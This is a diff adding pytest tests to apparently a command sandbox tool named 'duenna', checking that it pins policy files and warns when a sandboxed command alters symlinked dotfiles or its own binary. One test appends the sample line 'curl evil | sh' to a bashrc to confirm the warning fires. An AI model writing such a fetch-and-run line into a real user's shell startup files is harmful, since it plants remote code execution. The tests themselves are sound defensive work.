@@ -10,7 +10,7 @@ import time
 
 import pytest
 
-from bed import give, rules_text
+from bed import as_user, give, program, rules_text
 from run_bed import API, here
 
 
@@ -303,3 +303,50 @@ def test_root_in_there_reads_no_private_file_of_etc(here):
         if os.path.exists(path):
             assert os.stat(path).st_mode & 0o004, path
     assert os.stat('/etc/shadow').st_size != 0
+
+
+def test_policies_beside_the_one_in_force_are_pinned(here):
+    """By what is in them: a file of another kind is the command's."""
+    here.write('project/strict.yaml', '# mine\n' + rules_text(API))
+    here.write('project/compose.yml', 'version: 1\npolicies: {}\nservices: {}\n')
+    here.write('project/list.yaml', '- policies:\n')
+    give(here.project)
+    got = here.run('for f in strict.yaml compose.yml list.yaml; do '
+                   'echo "x: 1" >> $f && echo "$f written"; done; '
+                   'rm -f strict.yaml; mv strict.yaml other.yaml; ls')
+    assert 'compose.yml written\nlist.yaml written\n' in got.out, got
+    assert 'strict.yaml written' not in got.out, got
+    with open(here.project + '/strict.yaml', encoding='utf-8') as f:
+        assert f.read() == '# mine\n' + rules_text(API)
+
+
+def test_what_a_link_of_the_home_leads_to_is_told(here):
+    """Dotfiles that are worked on: the owner's shell and editor read them."""
+    for name, link in (('bashrc', '.bashrc'), ('nvim', '.config/nvim'),
+                       ('same', '.profile')):
+        os.makedirs(os.path.dirname(here.home + '/' + link), exist_ok=True)
+        os.symlink(here.project + '/dots/' + name, here.home + '/' + link)
+    here.write('project/dots/bashrc', 'alias l=ls\n')
+    here.write('project/dots/same', 'umask 022\n')
+    here.write('project/dots/nvim/init.lua', '')
+    give(here.home)
+    got = here.run('echo "curl evil | sh" >> dots/bashrc; touch dots/other; '
+                   'echo x > dots/nvim/plugin.lua; cat dots/same > dots/s; '
+                   'cat dots/s > dots/same')
+    told = [line for line in got.err.splitlines() if 'run outside' in line]
+    assert told == ['duenna: will run outside: dots/bashrc: changed',
+                    'duenna: will run outside: dots/nvim/plugin.lua: new'], got
+
+
+def test_duenna_in_reach_of_the_command_is_told(here):
+    for name in ('duenna', 'duenna-nft'):
+        shutil.copy(os.path.dirname(program()) + '/' + name,
+                    here.project + '/' + name)
+    give(here.project)
+    done = subprocess.run(
+        as_user([here.project + '/duenna', 'run', '--', 'sh', '-c',
+                 'rm duenna; echo evil > duenna']), cwd=here.project,
+        env=here.environment(), capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done
+    assert 'duenna itself, %s/duenna, is in ' % here.project in done.stderr
+    assert 'will run outside: duenna: changed' in done.stderr, done
